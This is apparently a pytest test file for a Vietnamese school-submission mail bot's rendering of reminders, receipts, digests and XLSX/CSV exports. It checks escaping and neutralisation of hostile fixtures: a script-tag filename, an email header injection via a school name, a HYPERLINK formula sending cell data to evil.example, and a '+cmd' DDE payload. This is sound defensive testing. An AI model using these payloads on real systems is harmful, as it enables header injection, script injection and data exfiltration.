"""Templates -> messages: Vietnamese wording, escaping, strictness, headers, size, XLSX."""
from __future__ import annotations

import dataclasses
import email
import io
import os
import shutil
import unicodedata
from email import policy

import pytest

from bot import notify
from bot.errors import ConfigError
from bot.outbound.digest import DEFAULT_ENTRIES, Bounce, Change, DigestInputs, UnknownSender, digest_mail
from bot.outbound.facts import counted_items
from bot.outbound.headers import encode_address
from bot.outbound.receipts import CountedItem, due_receipts
from bot.outbound.reminders import due_reminders
from bot.outbound.render import Renderer, lower_first, vn_duration, vn_number
from bot.rules.model import School
from bot.status import apply_corrections, compute_status
from bot.store import StoredItem

from .outgoing import FROM, ROOT, VN, at, make_ctx

NH = "thcs-nguyen-hien"
EVIL = "<b>{{ 7*7 }}</b><script>alert(1)</script>.pdf"


def item(id, when, doc_types, school=NH, decision="counted", filename=None, reasons=()):
    return StoredItem(id=id, message_id=f"<m{id}@x>", from_addr="a@b.c", subject="s", received_at=when,
                      container="", filename=filename or f"f{id}.pdf", part_index=0, first_page=1, last_page=1,
                      school=school, doc_types=tuple(doc_types), campaign=True, decision=decision, confidence=0.9,
                      reasons=tuple(reasons), cycle=2023, content_sha256="")


@pytest.fixture
def ctx(tmp_path):
    return make_ctx(tmp_path)


def status_of(ctx, items=(), now=at(7, 9), rules=None):
    rules = rules or ctx.rules
    facts = apply_corrections(items, [], rules.campaign, 2023, now)
    return compute_status(facts, rules.campaign, rules.schools, 2023, now)


def renderer(ctx, templates=None):
    return Renderer(templates or ctx.config.paths.templates, VN, FROM, "Phòng GD&ĐT Quận 12")


def build(ctx, mail, r=None, now=at(7, 9), attachments=()):
    r = r or renderer(ctx)
    subject = r.subject("school" if mail.school else mail.template, mail.context)
    text, html = r.bodies(mail.template, mail.context)
    raw = r.message(mail, subject=subject, text=text, html=html, message_id=r.new_message_id(mail.kind), now=now,
                    attachments=attachments)
    assert all(len(line) <= 998 for line in raw.split(b"\r\n"))
    assert b"\n" not in raw.replace(b"\r\n", b"")
    return email.message_from_bytes(raw, policy=policy.default)


def reminder_for(ctx, status, school=NH, now=at(7, 9)):
    due = due_reminders(status, ctx.rules, set(), now)
    return next(m for m in due.mails if m.school == school)


def test_reminder_is_formal_vietnamese_with_the_deadline_in_full(ctx):
    status = status_of(ctx, [item(1, at(5, 9, 30), ("to_trinh",))])
    msg = build(ctx, reminder_for(ctx, status))
    text = msg.get_body(("plain",)).get_content()
    html = msg.get_body(("html",)).get_content()
    for body in (text, html):
        assert "Kính gửi" in body and "Ban Giám hiệu Trường THCS Nguyễn Hiền" in body
        assert "23:59 ngày 10/10/2023 (giờ Việt Nam)" in body
        assert "Báo cáo kết quả xây dựng đơn vị điển hình" in body
        assert "Biên bản họp xét, đề nghị" in body
        assert unicodedata.is_normalized("NFC", body)
    assert "còn 3 ngày" in text
    # what was received is not listed as missing
    missing_part = text.split("Hồ sơ Phòng đã nhận:")[0]
    assert "Tờ trình đề nghị công nhận" not in missing_part
    assert "Tờ trình đề nghị công nhận: đúng hạn, nhận lúc 09:30 ngày 05/10/2023" in text
    assert msg["Subject"] == ("THCS Nguyễn Hiền - Hồ sơ đề nghị công nhận cơ sở giáo dục điển hình về phong trào "
                              "toàn dân bảo vệ an ninh Tổ quốc năm 2023")


def test_reminder_after_the_deadline_says_how_late(ctx):
    now = at(13, 9)
    msg = build(ctx, reminder_for(ctx, status_of(ctx, now=now), now=now), now=now)
    text = msg.get_body(("plain",)).get_content()
    html = msg.get_body(("html",)).get_content()
    assert "đã quá hạn 3 ngày" in text and "khẩn trương" in text
    assert "đã quá hạn 3 ngày" in html


@pytest.mark.parametrize("name", ["Phòng GD&ĐT Quận 12 - Hồ sơ điển hình ANTQ",
                                  "Phòng Giáo dục và Đào tạo Quận 12 - Tiếp nhận hồ sơ điển hình về an ninh Tổ quốc"])
def test_a_long_vietnamese_sender_name_is_never_split_inside_a_word(name):
    header = encode_address("From", name, FROM)
    assert header.isascii() and all(len(line) <= 78 for line in f"From: {header}".split("\r\n"))
    parsed = email.message_from_bytes(f"From: {header}\r\n\r\n".encode(), policy=policy.default)
    shown = parsed["From"].addresses[0].display_name
    # a strict reader gives the name back exactly; Python's reader adds a space between the
    # encoded pieces, which must fall between words ("điển  hình"), never inside one ("điển h ình")
    assert " ".join(shown.split()) == name
    assert parsed["From"].addresses[0].addr_spec == FROM


def test_hygiene_headers_and_both_alternatives(ctx):
    msg = build(ctx, reminder_for(ctx, status_of(ctx)))
    assert msg["Auto-Submitted"] == "auto-generated"
    assert msg["X-Auto-Response-Suppress"] == "OOF, AutoReply"
    assert msg["X-Bot-Kind"] == "reminder"
    assert msg["Message-ID"].endswith("@pgd-q12.example>")
    assert msg["From"].addresses[0].display_name == "Phòng GD&ĐT Quận 12"
    assert msg["From"].addresses[0].addr_spec == FROM
    assert [a.addr_spec for a in msg["To"].addresses] == ["thcsnguyenhien.q12@hcm-edu.example", "vanthu.nguyenhien@gmail.example"]
    assert msg.get_content_type() == "multipart/alternative"
    assert [p.get_content_type() for p in msg.iter_parts()] == ["text/plain", "text/html"]
    assert msg["Date"].datetime == at(7, 9)


def test_receipt_is_auto_replied_and_shows_filenames_as_text(ctx):
    now = at(5, 10)
    items = [item(1, at(5, 9), ("to_trinh",), filename=EVIL)]
    status = status_of(ctx, items, now=now)
    counted = [CountedItem(1, NH, ("to_trinh",), EVIL, at(5, 9), "thcsnguyenhien.q12@hcm-edu.example")]
    (mail,) = due_receipts(status, ctx.rules, counted, set(), now)
    msg = build(ctx, mail, now=now)
    assert msg["Auto-Submitted"] == "auto-replied"
    assert msg["X-Bot-Kind"] == "receipt"
    text = msg.get_body(("plain",)).get_content()
    html = msg.get_body(("html",)).get_content()
    assert "BIÊN NHẬN HỒ SƠ" in text and "BIÊN NHẬN HỒ SƠ" in html
    assert EVIL in text                                   # plain text shows it as is
    assert "&lt;b&gt;{{ 7*7 }}&lt;/b&gt;&lt;script&gt;alert(1)&lt;/script&gt;.pdf" in html
    assert "<script>" not in html and "49" not in html
    assert "09:00 ngày 05/10/2023" in text and "Đúng hạn" in text


def test_a_school_name_with_markup_and_a_newline_cannot_inject_headers(ctx):
    evil = School(code=NH, name="THCS <i>X</i> {{ 1+1 }}\r\nBcc: evil@example.org", level="THCS",
                  emails=("thcsnguyenhien.q12@hcm-edu.example",))
    rules = dataclasses.replace(ctx.rules, schools=tuple(evil if s.code == NH else s for s in ctx.rules.schools))
    status = status_of(ctx, rules=rules)
    mail = next(m for m in due_reminders(status, rules, set(), at(7, 9)).mails if m.school == NH)
    msg = build(ctx, mail)
    assert msg["Bcc"] is None
    assert msg["Subject"].startswith("THCS <i>X</i> {{ 1+1 }} Bcc: evil@example.org - ")
    assert "THCS &lt;i&gt;X&lt;/i&gt; {{ 1+1 }}" in msg.get_body(("html",)).get_content()


def test_templates_are_strict_about_undefined_names(ctx, tmp_path):
    templates = tmp_path / "templates"
    shutil.copytree(ROOT / "templates", templates)
    (templates / "reminder.txt").write_text("Kính gửi {{ school.nickname }}", encoding="utf-8")
    r = renderer(ctx, templates)
    with pytest.raises(ConfigError, match=r"reminder\.txt.*nickname"):
        build(ctx, reminder_for(ctx, status_of(ctx)), r)


def test_a_template_syntax_error_names_the_file_and_line(ctx, tmp_path):
    templates = tmp_path / "templates"
    shutil.copytree(ROOT / "templates", templates)
    (templates / "reminder.html").write_text("<p>\n{% if %}</p>", encoding="utf-8")
    with pytest.raises(ConfigError, match=r"reminder\.html: line 2"):
        build(ctx, reminder_for(ctx, status_of(ctx)), renderer(ctx, templates))


def test_the_office_can_reword_a_template_without_code(ctx, tmp_path):
    templates = tmp_path / "templates"
    shutil.copytree(ROOT / "templates", templates)
    path = templates / "reminder.txt"
    path.write_text(path.read_text(encoding="utf-8").replace("trân trọng nhắc", "kính đề nghị"), encoding="utf-8")
    text = build(ctx, reminder_for(ctx, status_of(ctx)), renderer(ctx, templates)).get_body(("plain",)).get_content()
    assert "kính đề nghị Quý Trường" in text


def test_a_renderer_compiles_a_template_once_and_again_only_after_the_office_edits_it(ctx, tmp_path):
    templates = tmp_path / "templates"
    shutil.copytree(ROOT / "templates", templates)
    r = renderer(ctx, templates)
    mail = reminder_for(ctx, status_of(ctx))
    assert "trân trọng nhắc" in build(ctx, mail, r).get_body(("plain",)).get_content()
    compiled = r.env.get_template("reminder.txt")
    build(ctx, mail, r)
    assert r.env.get_template("reminder.txt") is compiled  # the next mail reuses it
    path = templates / "reminder.txt"
    path.write_text(path.read_text(encoding="utf-8").replace("trân trọng nhắc", "kính đề nghị"), encoding="utf-8")
    later = path.stat().st_mtime + 5  # a later mtime even where the clock of the file system is coarse
    os.utime(path, (later, later))
    text = build(ctx, mail, r).get_body(("plain",)).get_content()  # the same renderer: no restart
    assert "kính đề nghị Quý Trường" in text and "trân trọng nhắc" not in text


def test_two_renderers_of_two_template_folders_do_not_share_templates(ctx, tmp_path):
    templates = tmp_path / "templates"
    shutil.copytree(ROOT / "templates", templates)
    path = templates / "reminder.txt"
    path.write_text(path.read_text(encoding="utf-8").replace("trân trọng nhắc", "kính đề nghị"), encoding="utf-8")
    mail = reminder_for(ctx, status_of(ctx))
    ours, theirs = renderer(ctx, ROOT / "templates"), renderer(ctx, templates)
    assert "trân trọng nhắc" in build(ctx, mail, ours).get_body(("plain",)).get_content()
    assert "kính đề nghị" in build(ctx, mail, theirs).get_body(("plain",)).get_content()
    assert ours.env is not theirs.env and renderer(ctx, templates).env is not theirs.env


def test_older_templates_without_the_guess_wording_give_a_review_sheet_without_guesses(ctx, tmp_path):
    templates = tmp_path / "templates"
    shutil.copytree(ROOT / "templates", templates)
    assert renderer(ctx, templates).review_wording()["GUESS_PREFIX"]
    (templates / "_digest_wording.txt").unlink()  # an office's templates/ from before the guesses
    assert renderer(ctx, templates).review_wording() == {}


def test_digest_has_headline_sections_and_the_full_matrix_as_xlsx(ctx):
    from openpyxl import load_workbook

    now = at(7, 7)
    items = [item(1, at(2), ("to_trinh", "bao_cao", "bien_ban")),
             item(2, at(3), ("to_trinh",), school="mn-hoa-mai"),
             item(3, at(3), ("bien_ban",), school="mn-hoa-mai", decision="review", filename="scan0001.pdf",
                  reasons=("không đọc được chữ (ảnh chụp)",))]
    status = status_of(ctx, items, now=now)
    inputs = DigestInputs(bounces=(Bounce("mnhoasen.q12@hcm-edu.example", at(4), at(5), 2, "Undelivered Mail"),),
                               unknown_senders=(UnknownSender("la@example.com", 3, at(6), "Hồ sơ"),))
    r = renderer(ctx)
    mail, attachments = notify.build_digest(ctx, r, status, inputs)
    msg = build(ctx, mail, r, now=now, attachments=attachments)
    assert msg["X-Bot-Kind"] == "digest" and msg["Auto-Submitted"] == "auto-generated"
    assert msg["Subject"] == "[Tổng hợp 07/10/2023] 1/27 trường đã đủ hồ sơ (3,7%), 1 tệp chờ xem xét"
    text = msg.get_body(("plain",)).get_content()
    assert "Đã nộp đủ hồ sơ: 1/27 trường (3,7%; mục tiêu 100%)" in text
    assert "Hạn nộp của các trường: 23:59 ngày 10/10/2023 (giờ Việt Nam) - còn 3 ngày" in text
    assert "Hạn Phòng báo cáo: 23:59 ngày 15/10/2023 (giờ Việt Nam) - còn 8 ngày" in text
    # the file in review: the bot's guess in a few words and the reply that settles it (the full reason is in the XLSX)
    assert "- R3  MN Hoa Mai: scan0001.pdf\n  có lẽ: Biên bản — bản scan, không đọc được chữ\n" in text.replace("\r\n", "\n")
    assert '  Trả lời: "duyệt R3" hoặc "bỏ R3"' in text
    assert "- MN Hoa Mai: thiếu Báo cáo kết quả xây dựng đơn vị điển hình; chờ kiểm tra: Biên bản họp xét, đề nghị" in text
    assert "mnhoasen.q12@hcm-edu.example (MN Hoa Sen): 2 lần" in text
    assert "la@example.com: 3 thư" in text
    assert "Mầm non (6):" in text and "Tiểu học (8):" in text
    (att,) = list(msg.iter_attachments())
    assert att.get_filename() == "tong-hop-ho-so-2023-10-07.xlsx"
    wb = load_workbook(io.BytesIO(att.get_content()))
    rows = [list(r) for r in wb["Tổng hợp"].iter_rows(values_only=True)]
    assert rows[0][:5] == ["Mã trường", "Tên trường", "Cấp học", "Hạn nộp", "Đủ hồ sơ"]
    assert rows[0][5:] == ["Tờ trình đề nghị công nhận", "Báo cáo kết quả xây dựng đơn vị điển hình",
                           "Biên bản họp xét, đề nghị", "Kế hoạch triển khai (không bắt buộc)"]
    assert len(rows) == 1 + 27
    nh = next(r for r in rows if r[0] == NH)
    assert nh[1:5] == ["THCS Nguyễn Hiền", "THCS", at(10, 23, 59).replace(second=59, tzinfo=None), "Đủ"]
    assert nh[5] == "Đúng hạn - 02/10/2023 08:00"
    hoa_mai = next(r for r in rows if r[0] == "mn-hoa-mai")
    assert hoa_mai[4:9] == ["Chưa đủ", "Đúng hạn - 03/10/2023 08:00", "Chưa nộp", "Đang chờ kiểm tra", "Chưa nộp"]
    review = [list(r) for r in wb["Chờ xem xét"].iter_rows(values_only=True)]
    assert review[1][0] == "R3" and review[1][-1] == "không đọc được chữ (ảnh chụp)"
    # the worklist: the guess as the digest says it and the reply to copy, for every file (not only those shown)
    assert review[0][7:9] == ["Dự đoán", "Trả lời gợi ý"]
    assert review[1][7:9] == ["có lẽ: Biên bản — bản scan, không đọc được chữ", "duyệt R3"]
    # names, not codes: the school and the document type as the coordinator knows them
    assert review[0][3:6] == ["Trường (dự đoán)", "Mã trường", "Loại hồ sơ (dự đoán)"]
    assert review[1][3:7] == ["MN Hoa Mai", "mn-hoa-mai", "Biên bản họp xét, đề nghị", "scan0001.pdf"]


@pytest.mark.stress  # 2,000 schools: the digest's DOCX annex alone takes 10-15 s of CPU (the long runs' lane)
def test_digest_of_a_huge_roster_stays_under_gmails_clipping_size(ctx):
    big = tuple(School(code=f"s{i:04d}", name=f"Trường Tiểu học Nguyễn Văn Trỗi số {i} phân hiệu Thạnh Lộc",
                       level=["MN", "TH", "THCS"][i % 3], emails=(f"s{i}@hcm-edu.example",)) for i in range(2000))
    rules = dataclasses.replace(ctx.rules, schools=big)
    big_ctx = dataclasses.replace(ctx, rules=rules)
    status = status_of(ctx, now=at(12, 7), rules=rules)
    r = renderer(ctx)
    mail, attachments = notify.build_digest(big_ctx, r, status, DigestInputs())
    _, html = r.bodies("digest", mail.context)
    assert len(html.encode("utf-8")) <= notify.HTML_BUDGET
    assert "xem tệp đính kèm" in html
    from openpyxl import load_workbook
    wb = load_workbook(io.BytesIO(attachments[0].data))
    assert wb["Tổng hợp"].max_row == 2001


@pytest.mark.parametrize("func, value, expected", [
    (vn_number, 44.44, "44,4"), (vn_number, 100.0, "100"), (vn_number, 0, "0"),
    (lower_first, "Hồ sơ đề nghị", "hồ sơ đề nghị"), (lower_first, "ANTQ năm 2023", "ANTQ năm 2023"),
])
def test_small_formatters(func, value, expected):
    assert func(value) == expected


def test_durations_in_vietnamese():
    from datetime import timedelta
    assert vn_duration(timedelta(days=1, hours=9, minutes=30, seconds=1)) == "1 ngày 9 giờ"
    assert vn_duration(timedelta(hours=2, minutes=5)) == "2 giờ 5 phút"
    assert vn_duration(timedelta(seconds=1)) == "dưới 1 phút"


# -- spreadsheet (formula) injection ---------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Tờ trình").pdf'


def _all_cells(wb):
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def test_mail_derived_text_in_the_digest_xlsx_is_shown_as_written_never_a_formula(ctx):
    from openpyxl import load_workbook

    now = at(7, 7)
    items = [item(1, at(3), ("bien_ban",), school="mn-hoa-mai", decision="review", filename=FORMULA,
                  reasons=("@SUM(1+1)", "-2+3")),
             item(2, at(3), ("to_trinh",), school=None, decision="review", filename="+cmd|' /C calc'!A0.pdf",
                  reasons=("\tTAB",))]
    status = status_of(ctx, items, now=now)
    r = renderer(ctx)
    mail, attachments = notify.build_digest(ctx, r, status, DigestInputs())
    wb = load_workbook(io.BytesIO(attachments[0].data))
    assert not [c.coordinate for c in _all_cells(wb) if c.data_type == "f"]
    review = {row[0].value: row for row in wb["Chờ xem xét"].iter_rows(min_row=2)}
    names = [c.value for c in review["R1"]] + [c.value for c in review["R2"]]
    assert FORMULA in names and "+cmd|' /C calc'!A0.pdf" in names        # shown exactly as the school named it
    risky = [c for row in review.values() for c in row if isinstance(c.value, str) and c.value[:1] in "=+-@\t"]
    assert risky and all(c.quotePrefix for c in risky)                   # Excel shows them as typed text


def test_export_csv_prefixes_text_a_spreadsheet_would_evaluate(tmp_path):
    import csv
    from bot.store import Store
    from .outgoing import record
    from .test_notify import cli, write_config

    cfg = write_config(tmp_path)
    with Store.open(tmp_path / "state") as store:
        record(store, at(5, 9), sender="thcsnguyenhien.q12@hcm-edu.example", subject="=1+1 Hồ sơ",
               files=[(FORMULA, NH, ("to_trinh",), "counted"), ("Biên bản.pdf", NH, ("bien_ban",), "counted")])
    code, out = cli("--config", cfg, "--now", "2023-10-06T08:00", "export", "--format", "csv")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    by_name = {r["filename"].lstrip("'"): r for r in rows}
    assert by_name[FORMULA]["filename"] == "'" + FORMULA
    assert by_name[FORMULA]["subject"] == "'=1+1 Hồ sơ"
    assert by_name["Biên bản.pdf"]["filename"] == "Biên bản.pdf"          # ordinary text is untouched
    assert not [v for r in rows for v in r.values() if v and v[0] in "=+-@\t\r"]


def test_an_optional_document_not_sent_is_neither_overdue_nor_red_in_the_digest_xlsx(ctx):
    from openpyxl import load_workbook

    now = at(12, 7)
    status = status_of(ctx, [item(1, at(2), ("to_trinh", "bao_cao", "bien_ban"))], now=now)
    mail, attachments = notify.build_digest(ctx, renderer(ctx), status, DigestInputs())
    ws = load_workbook(io.BytesIO(attachments[0].data))["Tổng hợp"]
    nh = next(row for row in ws.iter_rows(min_row=2) if row[0].value == NH)
    assert nh[4].value == "Đủ"
    assert nh[8].value == "Không nộp (không bắt buộc)"
    assert nh[8].fill.fill_type is None                                   # no red
    hoa_mai = next(row for row in ws.iter_rows(min_row=2) if row[0].value == "mn-hoa-mai")
    assert hoa_mai[5].value == "Chưa nộp (đã quá hạn)" and hoa_mai[5].fill.fgColor.rgb.endswith("FEE2E2")


# -- receipts: lateness, combined PDFs; addressing by level; headers -------------------------

def _receipt(ctx, counted, items, now):
    status = status_of(ctx, items, now=now)
    (mail,) = due_receipts(status, ctx.rules, counted, set(), now)
    msg = build(ctx, mail, now=now)
    return msg.get_body(("plain",)).get_content(), msg.get_body(("html",)).get_content()


def test_a_receipt_after_the_deadline_says_how_overdue_and_asks_for_the_rest(ctx):
    now = at(14, 10)
    items = [item(1, at(14, 9), ("to_trinh", "bao_cao"), filename="ho-so.pdf")]
    counted = [CountedItem(1, NH, ("to_trinh", "bao_cao"), "ho-so.pdf", at(14, 9), "thcsnguyenhien.q12@hcm-edu.example")]
    text, html = _receipt(ctx, counted, items, now)
    assert "Biên bản họp xét, đề nghị" in text.split("Phòng chưa nhận được:")[1]
    assert ("Hạn nộp: 23:59 ngày 10/10/2023 (giờ Việt Nam), đã quá hạn 4 ngày; "
            "đề nghị Quý Trường gửi bổ sung sớm.") in text
    assert "đã quá hạn 4 ngày</b>; đề nghị Quý Trường gửi bổ sung sớm." in html
    # before the deadline a receipt only states the deadline
    items = [item(1, at(5, 9), ("to_trinh", "bao_cao"), filename="ho-so.pdf")]
    counted = [dataclasses.replace(counted[0], received_at=at(5, 9))]
    text, html = _receipt(ctx, counted, items, at(5, 10))
    assert "Hạn nộp: 23:59 ngày 10/10/2023 (giờ Việt Nam)." in text
    assert "quá hạn" not in text and "quá hạn" not in html


def test_a_receipt_for_a_combined_pdf_names_the_pages_of_each_document(ctx):
    now = at(5, 10)
    docs = [("to_trinh", 1, 1), ("bao_cao", 2, 4), ("bien_ban", 5, 6)]
    items = [item(i, at(5, 9), (d,), filename="document.pdf") for i, (d, _, _) in enumerate(docs, start=1)]
    items.append(item(4, at(5, 9), ("ke_hoach",), filename="ke-hoach.pdf"))
    counted = [CountedItem(i, NH, (d,), "document.pdf", at(5, 9), "thcsnguyenhien.q12@hcm-edu.example",
                                first_page=first, last_page=last, parts=3)
               for i, (d, first, last) in enumerate(docs, start=1)]
    counted.append(CountedItem(4, NH, ("ke_hoach",), "ke-hoach.pdf", at(5, 9), "thcsnguyenhien.q12@hcm-edu.example",
                                    first_page=1, last_page=5))
    text, html = _receipt(ctx, counted, items, now)
    for pages in ("document.pdf (trang 1)", "document.pdf (trang 2–4)", "document.pdf (trang 5–6)"):
        assert f"Tệp: {pages}\n" in text.replace("\r\n", "\n")
    assert "Tệp: ke-hoach.pdf\n" in text.replace("\r\n", "\n")            # a file of one document: no pages
    assert "document.pdf <span style=\"white-space:nowrap;\">(trang 2–4)</span>" in html


def test_counted_items_carry_the_pages_and_the_number_of_documents_in_their_file(ctx):
    from bot.status import apply_corrections
    from bot.store import Store
    from .outgoing import record

    with Store.open(ctx.config.paths.state) as store:
        ids = record(store, at(5, 9), sender="thcsnguyenhien.q12@hcm-edu.example",
                     files=[("document.pdf", NH, ("to_trinh",), "counted"), ("document.pdf", NH, ("bao_cao",), "counted"),
                            ("bien-ban.pdf", NH, ("bien_ban",), "counted")], pages={1: (2, 4)})
        facts = apply_corrections(store.items(), [], ctx.rules.campaign, 2023, at(5, 10))
        counted = {c.item_id: c for c in counted_items(store, facts, 2023)}
    assert (counted[ids[1]].first_page, counted[ids[1]].last_page, counted[ids[1]].parts) == (2, 4, 2)
    assert counted[ids[0]].parts == 2 and counted[ids[2]].parts == 1


def test_a_centre_is_addressed_as_a_centre_not_a_school(ctx):
    centre = "tt-gdnn-gdtx-q12"
    status = status_of(ctx, [item(1, at(5, 9), ("to_trinh",), school=centre)])
    reminder = build(ctx, reminder_for(ctx, status, school=centre))
    now = at(5, 10)
    counted = [CountedItem(1, centre, ("to_trinh",), "f1.pdf", at(5, 9), "ttgdnngdtx.q12@hcm-edu.example")]
    (receipt_mail,) = due_receipts(status_of(ctx, [item(1, at(5, 9), ("to_trinh",), school=centre)], now=now),
                                        ctx.rules, counted, set(), now)
    receipt = build(ctx, receipt_mail, now=now)
    for msg in (reminder, receipt):
        for body in (msg.get_body(("plain",)).get_content(), msg.get_body(("html",)).get_content()):
            assert "Ban Giám đốc Trung tâm GDNN-GDTX Quận 12" in body
            assert "Quý Trung tâm" in body
            assert "Quý Trường" not in body and "Ban Giám hiệu" not in body and "Trường TT" not in body
    school = build(ctx, reminder_for(ctx, status)).get_body(("plain",)).get_content()
    assert "Kính gửi: Ban Giám hiệu Trường THCS Nguyễn Hiền" in school and "Quý Trường" in school


def test_mail_names_the_office_from_the_rules(ctx, tmp_path):
    rules_dir = tmp_path / "rules"
    shutil.copytree(ROOT / "rules", rules_dir)
    toml = (rules_dir / "campaign.toml").read_text(encoding="utf-8")
    (rules_dir / "campaign.toml").write_text(
        toml.replace('name = "PHÒNG GIÁO DỤC VÀ ĐÀO TẠO"', 'name = "PHÒNG VĂN HÓA - XÃ HỘI"'), encoding="utf-8")
    from bot.rules.load import load_rules
    rules = load_rules(rules_dir)
    status = status_of(ctx, rules=rules)
    mail = next(m for m in due_reminders(status, rules, set(), at(7, 9)).mails if m.school == NH)
    msg = build(ctx, mail)
    for body in (msg.get_body(("plain",)).get_content(), msg.get_body(("html",)).get_content()):
        assert "Phòng Văn hóa - Xã hội Quận 12 trân trọng nhắc Quý Trường" in body
        assert "Giáo dục và Đào tạo" not in body


def test_every_message_says_it_is_in_vietnamese(ctx):
    reminder = build(ctx, reminder_for(ctx, status_of(ctx)))
    r = renderer(ctx)
    mail, attachments = notify.build_digest(ctx, r, status_of(ctx, now=at(7, 7)), DigestInputs())
    digest = build(ctx, mail, r, now=at(7, 7), attachments=attachments)
    assert reminder["Content-Language"] == "vi"
    assert digest["Content-Language"] == "vi" and digest.get_content_type() == "multipart/mixed"


# -- narrow screens: names shortened in the middle, addresses never cut in their domain ------

@pytest.mark.parametrize("text, limit, expected", [
    ("scan0001.jpg", 26, "scan0001.jpg"),
    ("Tờ trình đề nghị công nhận năm 2023 - bản có chữ ký và đóng dấu đỏ.pdf", 34, "Tờ trình đề nghị côn…ng dấu đỏ.pdf"),
    ("HoSoDeNghiCongNhanDonViDienHinhPhongTraoToanDan_final_v3.docx", 26, "HoSoDeNghiCongN…al_v3.docx"),
    ("", 10, ""),
])
def test_long_file_names_are_shortened_in_the_middle_keeping_the_extension(text, limit, expected):
    from bot.outbound.render import shorten_middle

    assert shorten_middle(text, limit) == expected and len(expected) <= limit


@pytest.mark.parametrize("address, expected", [
    ("thlytutrong.q12@hcm-edu.example", "thlytutrong.q12@hcm-edu.example"),
    ("mntranquangkhai.q12@hcm-edu.example", "mntranquangkhai.q…@hcm-edu.example"),
    ("giaovien.thnguyenvantroi.0@gmail.com", "giaovien.thnguyenvantro…@gmail.com"),
])
def test_long_addresses_keep_their_domain(address, expected):
    from bot.outbound.render import shorten_address

    assert shorten_address(address, 34) == expected


def test_the_config_sets_the_entries_per_section_of_the_digest(tmp_path):
    from bot.config.load import parse_config
    from bot.errors import ConfigError as Error

    base = {"mailbox": {"source": "folder", "path": "inbox"}, "coordinator": {"emails": ["c@x.vn"]}}
    assert parse_config(base, tmp_path).digest_entries == DEFAULT_ENTRIES
    few = parse_config({**base, "coordinator": {"emails": ["c@x.vn"], "digest_entries": 3}}, tmp_path)
    ctx = make_ctx(tmp_path)
    ctx = dataclasses.replace(ctx, config=dataclasses.replace(ctx.config, digest_entries=few.digest_entries))
    items = [item(n, at(3), ("bao_cao",), decision="review", filename=f"scan{n}.pdf", reasons=("tệp scan",))
             for n in range(1, 9)]
    mail, _ = notify.build_digest(ctx, renderer(ctx), status_of(ctx, items), DigestInputs())
    assert len(mail.context["review"].rows) == 3 and mail.context["review"].more == 5
    with pytest.raises(Error, match="digest_entries"):
        parse_config({**base, "coordinator": {"emails": ["c@x.vn"], "digest_entries": 0}}, tmp_path)


def test_the_digest_of_a_flood_stays_small_with_its_attachments(ctx):
    """5,000 files in review in a district of 150 schools, the morning after the deadline (XLSX and DOCX
    draft attached): HTML part < 100 KB, whole message < 300 KB; the XLSX names the rest and `export`."""
    from openpyxl import load_workbook

    schools = tuple(School(code=f"s{i:03d}", name=f"Trường Tiểu học Nguyễn Văn Trỗi số {i}", level="TH",
                           emails=(f"s{i}@hcm-edu.example",)) for i in range(150))
    rules = dataclasses.replace(ctx.rules, schools=schools)
    big = dataclasses.replace(ctx, rules=rules)
    items = [item(n, at(2 + n % 9), ("bao_cao",) if n % 2 else (), school=f"s{n % 150:03d}", decision="review",
                  filename=f"Báo cáo công tác y tế trường học năm học 2023-2024 - bản số {n}.pdf",
                  reasons=(f"chưa chắc thuộc đợt này: có từ ngữ về y tế trường học, từ ngữ của đợt này chỉ có "
                           f"'an ninh' (tệp {n})",)) for n in range(1, 5001)]
    now = at(11, 7)
    status = status_of(big, items, now=now, rules=rules)
    r = renderer(ctx)
    mail, attachments = notify.build_digest(big, r, status, DigestInputs())
    msg = build(big, mail, r, now=now, attachments=attachments)
    html = msg.get_body(("html",)).get_content()
    assert [a.filename[-5:] for a in attachments] == [".xlsx", ".docx"]
    assert len(html.encode("utf-8")) < 100_000 and len(msg.as_bytes()) < 300_000
    sheet = [row for row in load_workbook(io.BytesIO(attachments[0].data))["Chờ xem xét"].iter_rows(values_only=True)]
    assert len(sheet) == 1 + 1000 + 1 and sheet[-1][0] == "... và 4000 tệp khác: xem lệnh python3 -m bot export --format csv"


def test_the_digest_lists_what_was_counted_one_school_at_a_time_even_without_a_school(ctx):
    inputs = DigestInputs(changes=(
        Change("R1", None, ("bao_cao",), "a.pdf", "x@y.example", at(3), "counted"),
        Change("R2", NH, ("bao_cao",), "b.pdf", "x@y.example", at(3), "counted"),
        Change("R3", NH, ("bien_ban",), "c.pdf", "x@y.example", at(3), "counted"),
        Change("R4", NH, (), "d.jpg", "x@y.example", at(3), "review")))
    mail = digest_mail(status_of(ctx, now=at(11, 7)), ctx.rules, inputs, ["c@x.vn"])
    text, html = renderer(ctx).bodies("digest", mail.context)
    assert "<b>Đã ghi nhận:</b> không rõ trường (Báo cáo); THCS Nguyễn Hiền (Báo cáo, Biên bản)." in html
    assert "1 tệp mới chờ xem xét (mục Tệp chờ xem xét ở trên)." in html
    assert "R4  THCS Nguyễn Hiền: (chưa rõ loại) - d.jpg [Chờ xem xét]" in text        # the text lists each file


def test_an_edited_template_shows_in_the_next_mail_though_renderers_share_compiled_templates(tmp_path):
    """Renderers share the templates compiled in the process: an office's edit of a
    template (even one that keeps its size and time stamp) shows in the mail of the
    next renderer and, once its time stamp moves, in the mail of a renderer already
    made; a template of the same name in another directory stays its own."""
    office, other = tmp_path / "office", tmp_path / "other"
    for folder, wording in ((office, "Kính gửi {{ name }}"), (other, "Chào {{ name }}!")):
        shutil.copytree(ROOT / "templates", folder)
        (folder / "probe.txt").write_text(wording, encoding="utf-8")
    first = Renderer(office, VN, FROM)
    assert first.render_template("probe.txt", {"name": "trường"}) == "Kính gửi trường"
    assert Renderer(other, VN, FROM).render_template("probe.txt", {"name": "trường"}) == "Chào trường!"

    stamp = os.stat(office / "probe.txt")
    (office / "probe.txt").write_text("Kính chào {{ name }}", encoding="utf-8")  # as many bytes as before
    os.utime(office / "probe.txt", ns=(stamp.st_atime_ns, stamp.st_mtime_ns))
    assert Renderer(office, VN, FROM).render_template("probe.txt", {"name": "trường"}) == "Kính chào trường"
    os.utime(office / "probe.txt", ns=(stamp.st_atime_ns, stamp.st_mtime_ns + 2_000_000_000))
    assert first.render_template("probe.txt", {"name": "trường"}) == "Kính chào trường"
